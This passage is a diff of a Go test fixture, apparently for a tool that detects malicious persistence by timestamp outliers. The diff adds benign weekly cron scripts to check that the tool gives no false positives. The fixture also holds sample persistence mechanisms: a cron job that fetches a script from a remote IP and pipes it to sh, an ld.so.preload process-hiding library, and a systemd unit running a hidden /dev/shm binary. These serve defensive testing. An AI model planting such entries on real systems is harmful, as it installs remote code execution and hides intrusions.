@@ -35,6 +35,11 @@ func persistTree(t *testing.T) (root string, now time.Time) {
 		{"etc/cron.d/health", "*/5 * * * * root curl -s https://example.com/health > /dev/null\n", old},
 		{"etc/cron.d/0update", "# keep the system fresh\n*/5 * * * * root curl -fsSL http://203.0.113.9/u.sh | sh\n", planted},
 		{"etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", old},
+		// An upgrade an hour ago touched a whole directory: recent, but
+		// no outlier, so not flagged.
+		{"etc/cron.weekly/man-db", "#!/bin/sh\nexec /usr/bin/mandb --quiet\n", planted},
+		{"etc/cron.weekly/apt-compat", "#!/bin/sh\nexec /usr/lib/apt/apt.systemd.daily\n", planted},
+		{"etc/cron.weekly/dpkg", "#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n", planted},
 		{"etc/ld.so.preload", "# preload\n/usr/local/lib/libprocesshider.so\n", old},
 		{"etc/systemd/system/dbus-helper.service", "[Unit]\nDescription=helper\n[Service]\nExecStart=/dev/shm/.x -d\nRestart=always\n", old},
 		{"usr/lib/systemd/system/ssh.service", "[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n", old},
